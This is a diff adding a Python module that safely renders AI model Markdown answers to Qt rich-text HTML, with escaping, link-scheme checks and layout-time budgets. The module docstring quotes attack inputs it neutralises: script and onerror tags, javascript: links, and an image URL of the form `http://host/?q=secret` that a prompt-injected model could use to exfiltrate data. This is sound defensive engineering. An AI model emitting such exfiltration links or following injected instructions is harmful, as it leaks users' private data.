@@ -1,0 +1,850 @@
+"""Model answers as Markdown, rendered to the HTML subset Qt's rich text engine draws well.
+
+Assistant messages are shown in a ``QLabel`` (rich text), which hands the HTML to
+``QTextDocument``. That engine understands a small, old-fashioned subset of HTML 4 and CSS 2,
+so this module writes exactly that subset itself from markdown-it-py's token stream, instead
+of post-processing markdown-it's own HTML: every tag and attribute comes from a short
+allowlist here, and every piece of model text is escaped.
+
+Why it is built this way (SECURITY.md item 7, "remote content in answers"):
+
+* **Raw HTML is text.** The parser runs with ``html`` off, so ``<script>``, ``<img
+  onerror=...>`` or ``<a href="javascript:...">`` written by a model appear literally, escaped.
+* **Images are never fetched.** A model, or a prompt injection hidden in a picture, can write
+  ``![](http://host/?q=secret)``; showing that as ``<img>`` would leak data with zero clicks.
+  No ``<img>`` tag (nor any ``src`` or ``background`` attribute) is ever written: an image
+  becomes muted text, ``[image: alt] url``, the URL as plain text, not a link.
+* **Only http(s) links are links.** Anything else (``javascript:``, ``file:``, ``data:``,
+  ``mailto:``, relative paths) is shown as text. Links open only on a click, in the widget,
+  which checks the scheme again before handing the URL to the desktop.
+
+Bounded time (also SECURITY.md item 10, "frozen UI"): the HTML is laid out on the GUI thread,
+and both halves of the work can be made slow by a hostile or runaway answer.
+
+* *Parsing.* markdown-it-py is linear in practice but slow on some inputs (about 20 µs per
+  character of ``[[[[`` or of empty table rows), so only the first
+  :data:`MAX_RENDERED_CHARS` characters are parsed as Markdown.
+* *Nesting.* markdown-it's ``maxNesting`` is set, and before it would silently drop the rest
+  of a too-deep container, :data:`MAX_BLOCK_DEPTH` turns that container's remaining lines
+  into plain text. Qt lays nested tables out in exponential time (16 levels: 20 s), so only
+  :data:`_MAX_QUOTE_BARS` levels of quotes get a bar (a table); deeper ones only indent.
+* *Layout.* Qt spends roughly 0.1 ms per element and 0.3 ms per table cell (30 000 table
+  rows took 35 s), and text inside tables costs about twice as much per level. Everything
+  written is charged to a budget of estimated layout time (:data:`MAX_LAYOUT_COST`). Once it
+  is spent, inline formatting is dropped, a big code block loses its table, and at the next
+  block the rest of the source is shown as plain text, itself capped
+  (:data:`MAX_SHOWN_CHARS`, :data:`MAX_SHOWN_LINES`). Nothing is lost: the message's own
+  Copy action copies the whole answer.
+* *Output size.* Styles live in one ``<style>`` sheet and every token adds a bounded amount
+  of markup, so the HTML stays linear in the input (a few times its size at most).
+
+Qt specifics this encodes: padding and backgrounds with padding only work on table cells, so
+code blocks and quotes are tables (a quote's bar is a narrow filled cell); heading sizes use
+the CSS keywords Qt scales from the widget's font (``large``, ``x-large``), so they follow
+the user's font size; code uses ``white-space: pre-wrap`` so a long line wraps inside the
+chat bubble instead of widening it; Qt adds nested lists' left margins up, so nested lists
+get a fixed 22 px each rather than another 40 px ``-qt-list-indent`` level.
+
+Streaming: the widget calls :func:`render_markdown` on the growing partial answer every few
+tens of milliseconds. CommonMark renders partial input sensibly (an unterminated code fence
+runs to the end of the text, a table appears once its delimiter row arrives), and a typical
+answer of a few kilobytes renders in a few milliseconds.
+
+This module is Qt-free (import-linter checks it); user-visible words come in through
+:class:`MarkdownLabels` so the Qt layer can translate them.
+"""
+
+from __future__ import annotations
+
+import functools
+import html
+import re
+from collections.abc import Sequence
+from dataclasses import dataclass, fields
+from typing import ClassVar
+from urllib.parse import urlsplit
+
+from markdown_it import MarkdownIt
+from markdown_it.rules_block import StateBlock
+from markdown_it.rules_block import table as table_rule
+from markdown_it.token import Token
+
+__all__ = [
+    "MAX_BLOCK_DEPTH",
+    "MAX_LAYOUT_COST",
+    "MAX_NESTING",
+    "MAX_RENDERED_CHARS",
+    "MAX_SHOWN_CHARS",
+    "MAX_SHOWN_LINES",
+    "MarkdownLabels",
+    "MarkdownTheme",
+    "RenderedMarkdown",
+    "code_blocks",
+    "plain_text_html",
+    "render_markdown",
+]
+
+MAX_RENDERED_CHARS = 50_000
+"""Characters parsed as Markdown; what follows is shown as plain text.
+
+About 12 000 tokens, longer than the answers local models write in one go. markdown-it-py
+parses prose at 1-3 µs per character but some inputs (``[[[[...``, empty table rows) cost
+~20 µs per character, so this keeps the worst case near one second on a desktop.
+"""
+
+MAX_SHOWN_CHARS = 200_000
+"""Characters shown at all, Markdown and plain text together; Qt lays out ~3 µs/char."""
+
+MAX_SHOWN_LINES = 3_000
+"""Lines of plain text shown past the Markdown limits."""
+
+MAX_LAYOUT_COST = 400_000
+"""Budget per message for Qt's layout, in estimated microseconds on a desktop (~0.4 s).
+
+Measured with a rich-text ``QLabel``: about 100 µs per element, 300 µs per table cell,
+3 µs per character and 30 µs per line, each doubling per enclosing table. An ordinary long
+answer (10 KB with code and a table) uses about a tenth of it.
+"""
+
+MAX_NESTING = 20
+"""markdown-it's own recursion limit (its ``maxNesting`` option), for blocks and inlines."""
+
+MAX_BLOCK_DEPTH = 16
+"""Block nesting level at which the rest of a container is shown as plain text.
+
+Below ``MAX_NESTING`` on purpose: at ``maxNesting`` markdown-it silently discards the rest of
+the document. A quote level costs 1, a list level 2, so this allows 16 quotes or 8 lists.
+"""
+
+_MAX_QUOTE_BARS = 2
+"""Nested quotes drawn with a bar (a table); deeper ones only indent.
+
+Qt lays each nested table out about twice per level (16 levels: 20 s), so with a code block
+inside, two bars already make text cost eight times as much as outside.
+"""
+
+_MAX_TABLE_COLUMNS = 64
+"""Wider tables are shown as their source text: one row alone would blow the budget."""
+
+_MAX_TABLE_ROWS = 1_000
+"""Rows parsed as one table (see :func:`_bounded_table`)."""
+
+_COST_ELEMENT = 100
+_COST_CELL = 300
+_COST_CHAR = 3
+_COST_LINE = 30
+_MAX_SHOWN_URL = 300
+"""Characters of a non-link URL shown; the rest is elided (``data:`` URLs can be megabytes)."""
+
+_MAX_LANGUAGE_LABEL = 32
+_MAX_PLAIN_LINKS = 1_000
+"""Bare URLs linked in a user's message; more are left as text (each link costs Qt ~0.1 ms)."""
+_NESTED_LIST_MARGIN = 22
+
+_MONOSPACE = (
+    "'JetBrains Mono', 'Cascadia Mono', 'SF Mono', Menlo, Consolas, "
+    "'DejaVu Sans Mono', 'Liberation Mono', monospace"
+)
+
+_COLOR = re.compile(r"#[0-9a-fA-F]{3,8}|[a-zA-Z]{1,32}")
+
+# Bare URLs in text. Linear: one character class, no nested quantifiers.
+_BARE_URL = re.compile(r"https?://[^\s<>\"'`\x00-\x1f\x7f]+", re.IGNORECASE)
+_TRAILING_PUNCTUATION = ".,;:!?*_~'\""
+
+
+@dataclass(frozen=True)
+class MarkdownTheme:
+    """The few colours Markdown needs beyond the widget's palette (text colour is inherited).
+
+    The window follows the system's light/dark scheme, so there is a preset for each; they
+    match ``desktop_app.qt.theme`` (the answer bubble is #ffffff in light mode, #24272c in
+    dark mode). Values go into a style sheet, so only ``#rgb``-style hex or colour names are
+    accepted.
+    """
+
+    code_background: str
+    code_header_background: str
+    muted: str
+    link: str
+    border: str
+
+    def __post_init__(self) -> None:
+        for item in fields(self):
+            value = getattr(self, item.name)
+            if not isinstance(value, str) or not _COLOR.fullmatch(value):
+                raise ValueError(f"MarkdownTheme.{item.name}: not a colour: {value!r}")
+
+    @classmethod
+    def light(cls) -> MarkdownTheme:
+        return cls(
+            code_background="#f4f5f7",
+            code_header_background="#e9ebef",
+            muted="#6b7280",
+            link="#2f6fde",
+            border="#d0d5dc",
+        )
+
+    @classmethod
+    def dark(cls) -> MarkdownTheme:
+        return cls(
+            code_background="#1a1c20",
+            code_header_background="#2f333a",
+            muted="#9aa1ab",
+            link="#6ea2ff",
+            border="#454a53",
+        )
+
+
+@dataclass(frozen=True)
+class MarkdownLabels:
+    """Words the renderer writes into the HTML; the Qt layer passes translated ones.
+
+    ``hidden`` may contain ``{count}``, replaced by the number of characters not shown.
+    """
+
+    copy: str = "Copy"
+    code: str = "code"
+    image: str = "image"
+    plain: str = "The rest of this message is shown as plain text."
+    hidden: str = "{count} more characters are not shown; copy the message to get all of it."
+
+
+@dataclass(frozen=True)
+class RenderedMarkdown:
+    """HTML for a rich-text ``QLabel`` plus the raw text of each code block.
+
+    ``code_blocks[n]`` is what the ``copy:n`` link in ``html`` stands for: the block's text
+    exactly as the model wrote it (unescaped), without the final line break.
+    """
+
+    html: str
+    code_blocks: tuple[str, ...] = ()
+
+
+def render_markdown(
+    text: str,
+    theme: MarkdownTheme | None = None,
+    labels: MarkdownLabels | None = None,
+) -> RenderedMarkdown:
+    """Render a model's Markdown answer to safe, Qt-friendly HTML (see the module docstring).
+
+    Cheap to call repeatedly on a growing answer; never raises on any input text.
+    """
+    theme = theme if theme is not None else MarkdownTheme.light()
+    labels = labels if labels is not None else MarkdownLabels()
+    source, tail = _split_at_limit(_clean(text))
+    writer = _HtmlWriter(theme, labels)
+    writer.render(_parser().parse(source), source, tail)
+    return RenderedMarkdown(html=writer.html(), code_blocks=tuple(writer.code_blocks))
+
+
+def code_blocks(text: str) -> list[str]:
+    """The raw text of each code block in ``text``, in the order of their ``copy:N`` links."""
+    return list(render_markdown(text).code_blocks)
+
+
+def plain_text_html(text: str, theme: MarkdownTheme | None = None) -> str:
+    """A user's message as HTML: escaped, line breaks and spaces kept, http(s) URLs linked.
+
+    User messages are not Markdown: people paste code and logs, and ``*`` or ``#`` in them
+    should look exactly as typed. Capped at :data:`MAX_SHOWN_CHARS` like answers.
+    """
+    theme = theme if theme is not None else MarkdownTheme.light()
+    text = _clean(text)
+    shown = text[:MAX_SHOWN_CHARS]
+    link = f'<a href="{{href}}" style="color:{theme.link}">'
+    body = _escape_and_linkify(shown, link, _MAX_PLAIN_LINKS).replace("\n", "<br>")
+    more = ""
+    if len(text) > len(shown):
+        count = f"{len(text) - len(shown):,}"
+        more = f'<br><span style="color:{theme.muted}">[… {_esc(count)}]</span>'
+    return f'<p style="margin:0; white-space:pre-wrap">{body}{more}</p>'
+
+
+# -- parsing ------------------------------------------------------------------------------
+
+
+@functools.lru_cache(maxsize=1)
+def _parser() -> MarkdownIt:
+    """One shared parser: CommonMark + tables + strikethrough + task lists, raw HTML off.
+
+    ``parse`` keeps all its state in a fresh state object, so sharing it between threads is
+    safe.
+    """
+    md = MarkdownIt(
+        "commonmark",
+        {"html": False, "linkify": False, "typographer": False, "maxNesting": MAX_NESTING},
+    )
+    md.options["tasklists"] = True  # older markdown-it-py ignores it: "[x]" stays text
+    md.enable(["table", "strikethrough"])
+    md.block.ruler.at("table", _bounded_table, {"alt": ["paragraph", "reference"]})
+    md.block.ruler.before("table", "depth_guard", _depth_guard)
+    return md
+
+
+def _bounded_table(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
+    """markdown-it's table rule, but a table ends after :data:`_MAX_TABLE_ROWS` rows.
+
+    Table rows are the slowest thing to parse (about 50 µs each) and the layout budget shows
+    far fewer as cells anyway; the rows after the limit are parsed as an ordinary paragraph.
+    """
+    return table_rule(state, start_line, min(end_line, start_line + _MAX_TABLE_ROWS + 2), silent)
+
+
+def _depth_guard(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
+    """At :data:`MAX_BLOCK_DEPTH`, take the rest of the current container as plain text.
+
+    Mirrors the loop in ``ParserBlock.tokenize``: the container ends at the first non-empty
+    line indented less than it requires (a lazy continuation line there is then parsed by the
+    outer container, which is shallower and fine).
+    """
+    if silent or state.level < MAX_BLOCK_DEPTH:
+        return False
+    line = start_line
+    last = start_line + 1
+    while line < end_line:
+        if not state.isEmpty(line):
+            if line > start_line and state.sCount[line] < state.blkIndent:
+                break
+            last = line + 1
+        line += 1
+    token = state.push("depth_overflow", "", 0)
+    token.content = state.getLines(start_line, last, state.blkIndent, False)
+    token.map = [start_line, last]
+    state.line = last
+    return True
+
+
+def _split_at_limit(text: str) -> tuple[str, str]:
+    """Markdown part and plain-text rest; the cut prefers a line break near the limit."""
+    if len(text) <= MAX_RENDERED_CHARS:
+        return text, ""
+    cut = text.rfind("\n", MAX_RENDERED_CHARS - 2_000, MAX_RENDERED_CHARS)
+    cut = cut + 1 if cut != -1 else MAX_RENDERED_CHARS
+    return text[:cut], text[cut:]
+
+
+# -- HTML ----------------------------------------------------------------------------------
+
+
+def _clean(text: str) -> str:
+    """markdown-it's own ``normalize`` step, done up front so line numbers agree."""
+    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
+
+
+def _esc(text: str) -> str:
+    """Escape text content; quotes may stay, as ``&quot;`` would make them six times longer."""
+    return html.escape(text, quote=False)
+
+
+def _attr(value: str) -> str:
+    """Escape an attribute value, quotes included."""
+    return html.escape(value, quote=True)
+
+
+def _safe_href(url: str) -> str | None:
+    """``url`` if it is an absolute http(s) URL with a host, else None."""
+    if any(c.isspace() or ord(c) < 0x20 or ord(c) == 0x7F for c in url):
+        return None
+    try:
+        parts = urlsplit(url)
+        host = parts.hostname
+    except ValueError:  # e.g. a malformed IPv6 literal
+        return None
+    if parts.scheme.lower() not in ("http", "https") or not host:
+        return None
+    return url
+
+
+def _elide(url: str) -> str:
+    return url if len(url) <= _MAX_SHOWN_URL else url[:_MAX_SHOWN_URL] + "\u2026"
+
+
+def _trim_url(url: str) -> str:
+    """Drop punctuation that ends a sentence rather than the URL; keep balanced ``)``."""
+    end = len(url)
+    unbalanced = url.count(")") - url.count("(")  # counted once: linear on any input
+    while end:
+        last = url[end - 1]
+        if last in _TRAILING_PUNCTUATION:
+            end -= 1
+        elif last == ")" and unbalanced > 0:
+            end -= 1
+            unbalanced -= 1
+        else:
+            break
+    return url[:end]
+
+
+def _escape_and_linkify(text: str, link_open: str, max_links: int) -> str:
+    """Escape ``text``; up to ``max_links`` bare http(s) URLs in it become links.
+
+    ``link_open`` is an ``<a>`` tag with an ``{href}`` slot.
+    """
+    if "://" not in text or max_links <= 0:
+        return _esc(text)
+    parts: list[str] = []
+    pos = 0
+    for match in _BARE_URL.finditer(text):
+        if max_links <= 0:
+            break
+        url = _trim_url(match.group(0))
+        href = _safe_href(_parser().normalizeLink(url))
+        if href is None or len(url) <= len("https://"):
+            continue
+        parts.append(_esc(text[pos : match.start()]))
+        parts.append(link_open.replace("{href}", _attr(href)) + _esc(url) + "</a>")
+        pos = match.start() + len(url)
+        max_links -= 1
+    parts.append(_esc(text[pos:]))
+    return "".join(parts)
+
+
+def _style_sheet(t: MarkdownTheme) -> str:
+    """The one style sheet of a rendered answer. Qt matches element and class selectors."""
+    return (
+        "p{margin-top:0;margin-bottom:8px}"
+        "p.li{margin-bottom:4px}"
+        "h1,h2,h3,h4,h5,h6{font-weight:600;margin-top:10px;margin-bottom:6px}"
+        "h1{font-size:x-large}h2,h3{font-size:large}h4,h5,h6{font-size:medium}"
+        f"a{{color:{t.link}}}"
+        f"code{{background-color:{t.code_background};font-family:{_MONOSPACE}}}"
+        f"pre{{margin:0;white-space:pre-wrap;font-family:{_MONOSPACE}}}"
+        "ul,ol{margin-top:0;margin-bottom:8px;margin-left:0;-qt-list-indent:1}"
+        f"ul.n,ol.n{{margin-bottom:0;margin-left:{_NESTED_LIST_MARGIN}px}}"
+        "li{margin-bottom:2px}"
+        f".m{{color:{t.muted}}}"
+        f"p.chp{{margin-bottom:0;background-color:{t.code_header_background}}}"
+        f"pre.cbp{{margin-bottom:10px;background-color:{t.code_background}}}"
+        ".sm{font-size:small}"
+        "a.cp{text-decoration:none}"
+        "table.cb,table.q,table.hr,table.t{margin-bottom:10px}"
+        f"table.t{{border-color:{t.border};border-style:solid;border-collapse:collapse}}"
+        f"th{{background-color:{t.code_header_background}}}"
+        f"td.ch{{background-color:{t.code_header_background};padding:4px 10px 4px 10px}}"
+        f"td.cc{{background-color:{t.code_background};padding:8px 10px 10px 10px}}"
+        f"td.bar{{background-color:{t.border}}}"
+        f"td.qt{{padding-left:10px;color:{t.muted}}}"
+        f"td.hr{{background-color:{t.border};font-size:1px}}"
+        "div.q{margin-left:14px;margin-bottom:8px}"
+        "p.pl{white-space:pre-wrap}"
+        f"p.note{{margin-top:8px;margin-bottom:4px;color:{t.muted};font-style:italic}}"
+    )
+
+
+_NO_MARGIN = ' style="margin-bottom:0"'
+
+
+@dataclass
+class _Frame:
+    """An open element: how to close it and, for blocks, how to drop its bottom margin."""
+
+    close: str
+    open_index: int = -1  # index in the output of the opening tag, or -1
+    flush_tag: str = ""  # that tag without a bottom margin
+    container: bool = False  # its last child block gets its bottom margin removed
+    kind: str = ""  # "quote" or "list": a depth counter to decrement on close
+
+
+class _HtmlWriter:
+    """Turns a markdown-it token stream into Qt rich-text HTML.
+
+    Spacing is done with bottom margins only. Qt does not collapse a block's bottom margin
+    into the end of a table cell or of the label, so the last block of a container (the
+    message, a quote, a list item) has its bottom margin removed when the container closes.
+    Every open element is a :class:`_Frame` on a stack, so the output can be cut off cleanly
+    at any block once the layout budget is spent.
+    """
+
+    def __init__(self, theme: MarkdownTheme, labels: MarkdownLabels) -> None:
+        self.theme = theme
+        self.labels = labels
+        self.out: list[str] = []
+        self.code_blocks: list[str] = []
+        self._stack: list[_Frame] = []
+        self._budget = MAX_LAYOUT_COST
+        self._shown = 0  # characters of source rendered or shown as plain text
+        self._list_depth = 0
+        self._quote_bars = 0
+        self._tables = 0  # tables open around the current position (quotes included)
+        self._last_closed: tuple[int, str, int] | None = None  # index, flush tag, len(out)
+        self._container_start = True
+
+    def html(self) -> str:
+        self._end_container()
+        return (
+            f"<html><head><style>{_style_sheet(self.theme)}</style></head><body>"
+            + "".join(self.out)
+            + "</body></html>"
+        )
+
+    # cost ------------------------------------------------------------------------------
+
+    def _text_cost(self, text: str, extra_tables: int = 0) -> int:
+        """Text costs more inside tables: Qt lays a cell out about twice per level."""
+        cost = len(text) * _COST_CHAR + text.count("\n") * _COST_LINE
+        return cost << (self._tables + extra_tables)
+
+    def _cell_cost(self, cells: int, extra_tables: int = 0) -> int:
+        return (cells * _COST_CELL) << max(self._tables + extra_tables - 1, 0)
+
+    # structure -------------------------------------------------------------------------
+
+    def _open(
+        self,
+        tag: str,
+        close: str,
+        *,
+        block: bool = True,
+        container: bool = False,
+        kind: str = "",
+    ) -> None:
+        """Write ``tag`` and remember how to close it.
+
+        A ``block`` has a bottom margin (from the style sheet) that is dropped if it turns out
+        to be the last block of its container; it is on the first tag of ``tag``.
+        """
+        frame = _Frame(close, container=container, kind=kind)
+        if tag:
+            self._budget -= _COST_ELEMENT
+        if block and tag:
+            frame.open_index = len(self.out)
+            end = tag.index(">")
+            first, rest = tag[:end], tag[end:]
+            if ' style="' in first:
+                first = first.replace(' style="', ' style="margin-bottom:0;', 1)
+            else:
+                first += _NO_MARGIN
+            frame.flush_tag = first + rest
+        if container:
+            self._container_start = True
+            self._last_closed = None
+        elif block:
+            self._container_start = False
+        if kind == "list":
+            self._list_depth += 1
+        elif kind in ("quote", "table"):
+            self._tables += 1
+            self._quote_bars += kind == "quote"
+        self._stack.append(frame)
+        self.out.append(tag)
+
+    def _pop(self) -> None:
+        frame = self._stack.pop()
+        if frame.container:
+            self._end_container()
+        if frame.kind == "list":
+            self._list_depth -= 1
+        elif frame.kind in ("quote", "table"):
+            self._tables -= 1
+            self._quote_bars -= frame.kind == "quote"
+        self.out.append(frame.close)
+        if frame.open_index >= 0:
+            self._last_closed = (frame.open_index, frame.flush_tag, len(self.out))
+
+    def _end_container(self) -> None:
+        """The container's last block needs no space below it."""
+        last = self._last_closed
+        if last is not None and last[2] == len(self.out):
+            self.out[last[0]] = last[1]
+        self._last_closed = None
+
+    def _leaf(self, html_text: str, open_tag: str, close_tag: str) -> None:
+        """A block with no children; ``open_tag`` is its margin-bearing first tag."""
+        self._open(open_tag, close_tag)
+        self.out.append(html_text)
+        self._pop()
+
+    # block level -----------------------------------------------------------------------
+
+    def render(self, tokens: Sequence[Token], source: str, tail: str) -> None:
+        """Write ``tokens`` (parsed from ``source``), then ``tail`` as plain text."""
+        for index, token in enumerate(tokens):
+            if token.nesting == -1:
+                if self._stack:
+                    self._pop()
+                continue
+            if self._budget <= 0 and token.map is not None and token.type != "inline":
+                self._stop(source, token.map[0], tail)
+                return
+            handler = getattr(self, "_" + token.type, None)
+            if handler is not None:
+                handler(token, tokens, index)
+            elif token.nesting == 1:
+                self._open("", "", block=False)  # unknown container: keep the stack balanced
+            elif token.content:
+                self._plain_block(token.content)  # unknown leaf: show it as text
+        self._shown += len(source)
+        self._plain_rest(tail)
+
+    def _stop(self, source: str, line: int, tail: str) -> None:
+        """Close everything open and show the source from ``line`` on as plain text."""
+        while self._stack:
+            self._pop()
+        lines = source.split("\n")
+        self._shown += sum(len(done) + 1 for done in lines[:line])
+        self._plain_rest("\n".join(lines[line:]) + tail)
+
+    def _plain_rest(self, text: str) -> None:
+        """Text past the Markdown limits: escaped, under a note, capped in length."""
+        text = text.strip("\n")
+        if not text:
+            return
+        room = max(MAX_SHOWN_CHARS - self._shown, 0)
+        shown = text[:room]
+        # Qt also pays per line (a column of "|" or "```" lines is 30 µs a line).
+        cut = -1
+        for _ in range(MAX_SHOWN_LINES):
+            cut = shown.find("\n", cut + 1)
+            if cut == -1:
+                break
+        if cut != -1:
+            shown = shown[:cut]
+        self._end_container()
+        self.out.append(f'<p class="note">{_esc(self.labels.plain)}</p>')
+        self._container_start = False
+        if shown:
+            self._plain_block(shown)
+        self._shown += len(shown)
+        if len(text) > len(shown):
+            count = f"{len(text) - len(shown):,}"
+            note = self.labels.hidden.replace("{count}", count)
+            self.out.append(f'<p class="note">{_esc(note)}</p>')
+
+    def _plain_block(self, text: str) -> None:
+        text = text.rstrip("\n")
+        self._budget -= self._text_cost(text)
+        self._leaf(_esc(text), '<p class="pl">', "</p>")
+
+    def _paragraph_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        if token.hidden:  # the paragraphs of a tight list item: no <p>, no margins
+            self._open("", "", block=False)
+        else:
+            # In a list item a paragraph keeps its small margin: it spaces out loose items.
+            self._open('<p class="li">' if self._list_depth else "<p>", "</p>")
+            if self._list_depth:
+                self._stack[-1].open_index = -1
+
+    def _inline(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._container_start = False
+        self._inlines(token.children or [])
+
+    def _heading_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        tag = token.tag if token.tag in ("h1", "h2", "h3", "h4", "h5", "h6") else "h6"
+        first = self._container_start
+        self._open(f'<{tag} style="margin-top:0">' if first else f"<{tag}>", f"</{tag}>")
+
+    def _hr(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        # Qt's own <hr> is a black line in the text colour; a 1px-font cell is a thin rule.
+        self._budget -= self._cell_cost(1, extra_tables=1)
+        self._leaf(
+            '<tr><td class="hr">&nbsp;</td></tr>',
+            '<table class="hr" width="100%" cellspacing="0" cellpadding="0">',
+            "</table>",
+        )
+
+    def _blockquote_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        if self._quote_bars >= _MAX_QUOTE_BARS:
+            self._open('<div class="q">', "</div>", container=True)
+            return
+        self._budget -= self._cell_cost(2, extra_tables=1)
+        self._open(
+            '<table class="q" width="100%" cellspacing="0" cellpadding="0">'
+            '<tr><td class="bar" width="3"></td><td class="qt">',
+            "</td></tr></table>",
+            container=True,
+            kind="quote",
+        )
+
+    def _list_open(self, tag: str, token: Token, tokens: Sequence[Token], index: int) -> None:
+        following = tokens[index + 1] if index + 1 < len(tokens) else None
+        if following is not None and following.meta and "checked" in following.meta:
+            style = "none"  # a task list: the check box is the marker
+        elif tag == "ul":
+            style = ("disc", "circle", "square")[min(self._list_depth, 2)]
+        else:
+            style = "decimal"
+        start = ""
+        first = str(token.attrGet("start") or "")
+        if tag == "ol" and first.isdigit():
+            start = f' start="{int(first)}"'
+        nested = bool(self._list_depth)
+        css_class = ' class="n"' if nested else ""
+        tag_html = f'<{tag}{start}{css_class} style="list-style-type:{style}">'
+        # A nested list has a fixed margin and none below it: nothing to drop.
+        self._open(tag_html, f"</{tag}>", block=not nested, kind="list")
+        self._container_start = False
+
+    def _bullet_list_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._list_open("ul", token, tokens, index)
+
+    def _ordered_list_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._list_open("ol", token, tokens, index)
+
+    def _list_item_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._open("<li>", "</li>", block=False, container=True)
+        checked = token.meta.get("checked") if token.meta else None
+        if checked is not None:
+            self.out.append("\u2611\u00a0" if checked else "\u2610\u00a0")
+
+    def _fence(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        info = token.info.split()
+        self._code(token.content, info[0] if info else "")
+
+    def _code_block(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._code(token.content, "")
+
+    def _code(self, content: str, language: str) -> None:
+        """A header bar (language, Copy link) over a shaded, padded body: a borderless table.
+
+        A block too big for the remaining budget is drawn without the table (no padding),
+        which Qt lays out two to three times faster.
+        """
+        code = content[:-1] if content.endswith("\n") else content
+        number = len(self.code_blocks)
+        self.code_blocks.append(code)
+        label = _esc(language[:_MAX_LANGUAGE_LABEL] or self.labels.code)
+        copy = f'<a class="cp sm" href="copy:{number}">{_esc(self.labels.copy)}</a>'
+        table_cost = self._cell_cost(3, extra_tables=1) + self._text_cost(code, extra_tables=1)
+        if table_cost <= self._budget:
+            self._budget -= table_cost
+            self._leaf(
+                f'<tr><td class="ch"><span class="m sm">{label}</span></td>'
+                f'<td class="ch" align="right">{copy}</td></tr>'
+                f'<tr><td class="cc" colspan="2"><pre>{_esc(code)}</pre></td></tr>',
+                '<table class="cb" width="100%" cellspacing="0" cellpadding="0">',
+                "</table>",
+            )
+        else:
+            self._leaf(
+                f'<span class="m sm">{label}</span> \u00b7 {copy}', '<p class="chp">', "</p>"
+            )
+            self._budget -= self._text_cost(code)
+            self._leaf(_esc(code), '<pre class="cbp">', "</pre>")
+
+    def _table_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        columns = 0
+        for following in tokens[index + 1 :]:
+            if following.type == "th_open":
+                columns += 1
+            elif following.type == "tr_close":
+                break
+        if columns > _MAX_TABLE_COLUMNS:
+            self._budget = 0  # render() shows the source text from the next row on
+        # Qt honours the border/cellpadding attributes far better than CSS borders.
+        self._open(
+            '<table class="t" border="1" cellspacing="0" cellpadding="5">',
+            "</table>",
+            kind="table",
+        )
+
+    def _thead_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._open("", "", block=False)
+
+    _tbody_open = _thead_open
+
+    def _tr_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._open("<tr>", "</tr>", block=False)
+
+    def _cell_open(self, tag: str, token: Token) -> None:
+        # markdown-it writes column alignment as style="text-align:..."; Qt wants align=.
+        style = str(token.attrGet("style") or "")
+        align = ""
+        for value in ("left", "center", "right"):
+            if style == f"text-align:{value}":
+                align = f' align="{value}"'
+        self._budget -= self._cell_cost(1)
+        self._open(f"<{tag}{align}>", f"</{tag}>", block=False)
+
+    def _th_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._cell_open("th", token)
+
+    def _td_open(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._cell_open("td", token)
+
+    def _depth_overflow(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._plain_block(token.content)
+
+    def _html_block(self, token: Token, tokens: Sequence[Token], index: int) -> None:
+        self._plain_block(token.content)  # only if raw HTML were ever switched on
+
+    # inline level ----------------------------------------------------------------------
+
+    _SIMPLE_INLINE: ClassVar[dict[str, str]] = {
+        "em_open": "<i>",
+        "em_close": "</i>",
+        "strong_open": "<b>",
+        "strong_close": "</b>",
+        "s_open": "<s>",
+        "s_close": "</s>",
+    }
+
+    def _inlines(self, tokens: Sequence[Token]) -> None:
+        """Inline tokens; once the budget is spent, formatting is dropped and text remains."""
+        out = self.out
+        # For each open link: None if it became an <a>, else the text to show after it.
+        link_suffixes: list[str | None] = []
+        # <i>, <b>, <s> written and not yet closed: after the budget runs out no new ones
+        # are opened, but those already open still get closed.
+        emitted: dict[str, int] = {}
+        for token in tokens:
+            kind = token.type
+            rich = self._budget > 0
+            if kind == "text":
+                self._budget -= self._text_cost(token.content)
+                if link_suffixes or not rich:
+                    out.append(_esc(token.content))
+                else:
+                    most = self._budget // _COST_ELEMENT + 1
+                    linked = _escape_and_linkify(token.content, '<a href="{href}">', most)
+                    self._budget -= _COST_ELEMENT * linked.count("<a ")
+                    out.append(linked)
+            elif kind == "softbreak":
+                out.append("\n")  # a space to Qt, as in HTML
+            elif kind == "hardbreak":
+                out.append("<br>")
+            elif kind in self._SIMPLE_INLINE:
+                name = kind.rpartition("_")[0]
+                if token.nesting == 1 and rich:
+                    emitted[name] = emitted.get(name, 0) + 1
+                    out.append(self._SIMPLE_INLINE[kind])
+                    self._budget -= _COST_ELEMENT
+                elif token.nesting == -1 and emitted.get(name, 0) > 0:
+                    emitted[name] -= 1
+                    out.append(self._SIMPLE_INLINE[kind])
+            elif kind == "code_inline":
+                self._budget -= self._text_cost(token.content)
+                if rich:
+                    # Inline spans take no padding in Qt; no-break spaces pad the shading.
+                    out.append(f"<code>\u00a0{_esc(token.content)}\u00a0</code>")
+                    self._budget -= _COST_ELEMENT
+                else:
+                    out.append(_esc(token.markup + token.content + token.markup))
+            elif kind == "link_open":
+                raw = str(token.attrGet("href") or "")
+                href = _safe_href(raw)
+                if href is not None and rich:
+                    link_suffixes.append(None)
+                    out.append(f'<a href="{_attr(href)}">')
+                    self._budget -= _COST_ELEMENT
+                elif token.markup == "autolink":
+                    link_suffixes.append("")  # the text already is the address
+                else:
+                    link_suffixes.append(f' <span class="m">({_esc(_elide(raw))})</span>')
+            elif kind == "link_close":
+                suffix = link_suffixes.pop() if link_suffixes else None
+                out.append("</a>" if suffix is None else suffix)
+            elif kind == "image":
+                out.append(self._image(token))
+            elif token.content:
+                self._budget -= self._text_cost(token.content)
